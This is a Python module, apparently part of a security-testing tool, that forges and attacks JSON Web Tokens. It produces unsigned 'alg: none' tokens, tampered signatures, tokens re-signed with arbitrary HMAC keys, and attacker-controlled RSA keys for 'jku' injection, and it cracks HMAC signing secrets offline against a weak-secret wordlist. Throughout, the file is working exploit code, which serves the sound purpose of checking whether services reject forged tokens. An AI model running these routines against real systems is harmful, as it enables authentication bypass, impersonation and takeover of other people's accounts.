"""JWT forging for the authentication checks: decode without verifying, sign with a chosen
HMAC key, ``alg: none``, a broken signature, an RSA key pair for ``jku`` injection, and offline
cracking of HS256/384/512 secrets against a wordlist.

HMAC signing is done here with ``hmac`` (not PyJWT) because the attacks need keys PyJWT rightly
refuses: empty keys, short dictionary words.
"""

from __future__ import annotations

import base64
import hashlib
import hmac
import json
from collections.abc import Iterable, Mapping
from dataclasses import dataclass
from importlib import resources
from typing import Any

_HASHES = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}


def b64url(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode()


def b64url_decode(text: str) -> bytes:
    return base64.urlsafe_b64decode(text + "=" * (-len(text) % 4))


@dataclass(frozen=True, slots=True)
class Jwt:
    header: dict[str, Any]
    claims: dict[str, Any]
    signing_input: bytes
    signature: bytes
    raw: str

    @classmethod
    def parse(cls, token: str) -> Jwt | None:
        try:
            head, body, sig = token.split(".")
            header = json.loads(b64url_decode(head))
            claims = json.loads(b64url_decode(body))
            signature = b64url_decode(sig)
        except (ValueError, TypeError):
            return None
        if not isinstance(header, dict) or not isinstance(claims, dict):
            return None
        return cls(header, claims, f"{head}.{body}".encode(), signature, token)

    @property
    def alg(self) -> str:
        return str(self.header.get("alg", ""))


def encode_unsigned(header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
    head = b64url(json.dumps(dict(header), separators=(",", ":")).encode())
    body = b64url(json.dumps(dict(claims), separators=(",", ":")).encode())
    return f"{head}.{body}"


def sign_hmac(header: Mapping[str, Any], claims: Mapping[str, Any], key: bytes) -> str:
    alg = str(header.get("alg", "HS256"))
    unsigned = encode_unsigned(header, claims)
    mac = hmac.new(key, unsigned.encode(), _HASHES.get(alg, hashlib.sha256)).digest()
    return f"{unsigned}.{b64url(mac)}"


def alg_none(token: Jwt, variant: str = "none") -> str:
    return encode_unsigned({**token.header, "alg": variant}, token.claims) + "."


def bad_signature(token: str) -> str:
    head, body, sig = token.split(".")
    raw = bytearray(b64url_decode(sig) or b"\0" * 32)
    raw[0] ^= 0xFF
    raw[-1] ^= 0xFF
    return f"{head}.{body}.{b64url(bytes(raw))}"


def wordlist(limit: int) -> list[str]:
    """The shipped list of weak JWT secrets (most common first), cut at ``limit``."""
    text = resources.files("battletest.security").joinpath("data/jwt-secrets.txt").read_text()
    words = [w for w in text.splitlines() if w and not w.startswith("#")]
    return words[:limit]


def crack(token: Jwt, candidates: Iterable[str]) -> str | None:
    """The HMAC secret that produced ``token``'s signature, if it is among ``candidates``."""
    digest = _HASHES.get(token.alg)
    if digest is None:
        return None
    for word in candidates:
        mac = hmac.new(word.encode(), token.signing_input, digest).digest()
        if hmac.compare_digest(mac, token.signature):
            return word
    return None


class RsaKey:
    """A fresh RSA key pair and its public JWKS, for ``jku`` injection."""

    def __init__(self, kid: str = "battletest") -> None:
        from cryptography.hazmat.primitives.asymmetric import rsa

        self.kid = kid
        self._key = rsa.generate_private_key(public_exponent=65537, key_size=2048)

    def jwks(self) -> dict[str, Any]:
        numbers = self._key.public_key().public_numbers()

        def to_b64(n: int) -> str:
            return b64url(n.to_bytes((n.bit_length() + 7) // 8, "big"))

        return {
            "keys": [
                {
                    "kty": "RSA",
                    "kid": self.kid,
                    "use": "sig",
                    "alg": "RS256",
                    "n": to_b64(numbers.n),
                    "e": to_b64(numbers.e),
                }
            ]
        }

    def sign(self, header: Mapping[str, Any], claims: Mapping[str, Any]) -> str:
        from cryptography.hazmat.primitives import hashes
        from cryptography.hazmat.primitives.asymmetric import padding

        unsigned = encode_unsigned({**header, "alg": "RS256", "kid": self.kid}, claims)
        sig = self._key.sign(unsigned.encode(), padding.PKCS1v15(), hashes.SHA256())
        return f"{unsigned}.{b64url(sig)}"
